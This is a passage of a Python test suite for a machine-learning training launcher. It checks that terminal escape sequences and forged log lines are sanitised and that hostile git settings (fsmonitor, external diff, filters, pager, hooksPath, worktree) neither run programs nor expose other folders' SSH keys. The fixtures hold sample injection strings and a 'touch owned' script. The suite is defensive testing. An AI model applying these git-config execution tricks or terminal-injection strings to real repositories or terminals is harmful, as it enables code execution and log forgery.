    torch.save({odd: torch.ones(1)}, project / "w.pth")
    assert main(["check", "recipe.yaml", "train.start_from=w.pth"]) == 1
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1
    assert "\\x1b" in err
    assert err[:-1].isprintable()


ODD_NAME = "x[/]:heart:\x1b]0;T\x07\nlauncher: all is well\u202e"
ODD_NAMES = f"""
import torch
from torch import nn
from parts import Net, Points
class Named(Points):
    classes = [{ODD_NAME!r} + str(number) for number in range(3)]
class Failing(Points):
    def __getitem__(self, index): raise ValueError({ODD_NAME!r})
def odd_net():
    net = type({ODD_NAME!r}, (Net,), {{}})()
    net.add_module({ODD_NAME.replace(".", "")!r}, nn.Linear(2, 2))
    return net
def scores(outputs, targets): return {{{ODD_NAME!r}: 1.0}}
"""


def test_names_of_data_and_models_forge_no_line(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "odd.py").write_text(ODD_NAMES)
    named = ["data.train={_target_: odd.py:Named}", "model={_target_: odd.py:odd_net}"]
    metrics = ["data.validation={_target_: odd.py:Named}", "evaluate.metrics.s={_target_: odd.py:scores}"]
    for words in (["data", "--seconds", "0", *named], ["check", *named, *metrics]):
        assert main([words[0], "recipe.yaml", *words[1:]]) == 0
        out = capsys.readouterr().out
        assert "\\x1b" in out
        assert all(line.isprintable() and not line.startswith("launcher: ") for line in out.split("\n"))
    assert main(["data", "recipe.yaml", "--seconds", "0", "data.train={_target_: odd.py:Failing}"]) == 2
    err = capsys.readouterr().err
    assert (err.count("\n"), err[:-1].isprintable(), "odd.py:" in err) == (1, True, True)


@pytest.mark.parametrize("odd", ["a\x1b[2Jb", "a\rb", "a\nlauncher: all is well", "a\x9bb", "a\u202eb", "a\u2028b"])
def test_errors_are_printable_wherever_they_come_from(capsys: pytest.CaptureFixture[str], odd: str) -> None:
    _say(LauncherError(odd), for_programs=False)
    _say(RecipeError([Problem("x.yaml:1:1", odd, odd)]), for_programs=False)
    lines = capsys.readouterr().err.splitlines()
    assert all(line.isprintable() for line in lines)
    assert not [line for line in lines if line.startswith("launcher:")]


def test_no_argument_of_own_code_is_cut_or_shows_a_secret(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    define = f"define={{x: {{_target_: bad.py:sh, note: {'n' * 300}, inner: [{{a: {'m' * 100}}}], cmd: touch owned}}}}"
    (project / "bad.py").write_text("")
    assert main(["check", "recipe.yaml", "--fast", define]) == 0
    lines = [line for line in capsys.readouterr().out.splitlines() if line.startswith("own code     define.x: ")]
    assert len(lines) == 3
    text = "".join(line.removeprefix("own code     define.x: ").removeprefix("… ") for line in lines)
    assert text == f"bad.py:sh(note='{'n' * 300}', inner=[{{a: '{'m' * 100}'}}], cmd='touch owned')"


def test_what_a_tracker_is_told_is_known_at_reading() -> None:
    changes = ["track={wandb: {tags: ['${train.steps_per_epoch}']}, tensorboard: {max_queue: '${scheduler.steps}'}}"]
    with pytest.raises(RecipeError) as caught:
        load_recipe("recipe.yaml", changes)
    assert str(caught.value).count("is known when the data is opened; write a value here") == 2
    with pytest.raises(RecipeError, match=r"define\.k\.key.* is known when the data is opened"):
        load_recipe("recipe.yaml", [f"define={{{CONFIG}}}", "track={wandb: {notes: 'a ${define.k.key}'}}"])


@pytest.mark.parametrize(
    "config",
    [
        "core.fsmonitor={script}",
        "diff.external={script}",
        "diff.x.textconv={script}",
        "diff.x.command={script}",
        "filter.x.clean={script}",
        "filter.x.process={script}",
        "core.pager={script}",
        "core.hooksPath=.",
    ],
)
def test_the_settings_of_a_folder_run_no_program(project: Path, config: str) -> None:
    script = project / "post-index-change"
    script.write_text("#!/bin/sh\ntouch owned\ncat\n")
    script.chmod(0o755)
    (project / "x.txt").write_text("before\n")
    (project / ".gitattributes").write_text("*.txt filter=x diff=x\n")
    git = ["git", "-c", "user.name=a", "-c", "user.email=b"]
    for words in (["init", "-q"], ["add", "x.txt"], ["commit", "-qm", "c"]):
        subprocess.run([*git, *words], cwd=project, check=True)
    key, _, value = config.format(script=script).partition("=")
    subprocess.run(["git", "config", key, value], cwd=project, check=True)
    (project / "x.txt").write_text("after\n")
    kept = environment({})["git"]
    assert len(kept["commit"]) == 40
    assert ("+after" in kept["diff"]) == (not config.startswith("filter"))


def test_a_working_tree_shows_no_files_of_another_folder(project: Path) -> None:
    victim = project.parent / "home"
    git = ["git", "-c", "user.name=a", "-c", "user.email=b"]
    for folder in (project, victim):
        (folder / ".ssh").mkdir(parents=True)
        (folder / ".ssh" / "id").write_text("" if folder == project else "hunter2\n")
    for words in (["init", "-q"], ["add", "."], ["commit", "-qm", "c"]):
        subprocess.run([*git, *words], cwd=project, check=True)
    for worktree in (victim, project.parent, Path("/")):
        subprocess.run(["git", "config", "core.worktree", str(worktree)], cwd=project, check=True)
        kept = environment({})["git"]
        assert len(kept["commit"]) == 40
        assert kept["diff"] == ""
    subprocess.run(["git", "config", "--unset", "core.worktree"], cwd=project, check=True)
    subprocess.run(["git", "worktree", "add", "-q", str(project.parent / "second")], cwd=project, check=True)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(project.parent / "second")  # a real one, whose `.git` is a file
        (project.parent / "second" / ".ssh" / "id").write_text("after\n")
        assert "+after" in environment({})["git"]["diff"]


def test_a_run_that_goes_to_a_named_entity_tells_nothing_of_the_machine() -> None:
    for name, setting in (("comet_ml", "workspace"), ("swanlab", "workspace")):
        with pytest.raises(UsageError, match=rf"track\.{name}\.{setting}: a recipe may not say this"):
            check({name: {setting: "stranger"}})
